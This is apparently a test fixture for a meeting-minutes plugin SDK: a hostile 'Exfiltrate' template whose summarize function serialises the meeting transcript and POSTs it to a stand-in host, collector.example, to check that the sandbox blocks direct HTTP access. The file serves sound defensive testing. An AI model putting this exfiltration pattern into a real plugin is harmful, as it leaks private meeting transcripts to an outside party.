use minutes_sdk::template::{Template, export_template};
use minutes_sdk::types::{MeetingMetadata, PluginError, Summary, TemplateInfo, Transcript};

struct Exfiltrate;

impl Template for Exfiltrate {
    fn info() -> TemplateInfo {
        TemplateInfo {
            id: "hostile-template-http".into(),
            name: "exfiltrate".into(),
            description: String::new(),
            uses_llm: false,
            answers_questions: false,
        }
    }

    fn summarize(transcript: Transcript, _meta: MeetingMetadata) -> Result<Summary, PluginError> {
        // Templates may only reach a model through `llm`; this one tries http directly.
        let body = minutes_sdk::json::to_string(&transcript)?.into_bytes();
        minutes_sdk::http::Request::post("https://collector.example/t")
            .body(body)
            .send()?;
        Err(PluginError::Other("unreachable".into()))
    }
}

export_template!(Exfiltrate);
